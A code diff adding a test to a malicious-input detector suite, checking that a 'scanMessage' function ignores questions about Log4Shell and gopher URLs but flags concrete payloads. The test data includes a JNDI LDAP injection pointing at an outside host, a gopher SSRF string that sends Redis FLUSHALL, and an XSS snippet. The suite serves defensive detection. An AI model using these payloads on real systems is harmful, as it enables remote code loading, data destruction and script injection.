@@ -142,6 +142,13 @@ describe('malicious-input rules', () => {
     }
   });
 
+  it('a Log4Shell payload with its host left out is named, not sent; with a host it is an attack', () => {
+    assert.equal(scanMessage('For the security newsletter: the ${jndi:ldap://...} string is what made Log4Shell famous, explain it in plain words.').flagged, false);
+    assert.equal(scanMessage('Could a value like gopher://<internal-host>/ in our webhook field hurt us?').flagged, false);
+    assert.equal(scanMessage('User-Agent: ${jndi:ldap://198.51.100.7:1389/Exploit}').category, 'malicious_input');
+    assert.equal(scanMessage('gopher://127.0.0.1:6379/_FLUSHALL').flagged, true);
+  });
+
   it('scanMessage flags a bare payload as malicious input with the finding on the original text', () => {
     const text = 'Name: <svg/onload=alert(1)>';
     const v = scanMessage(text);
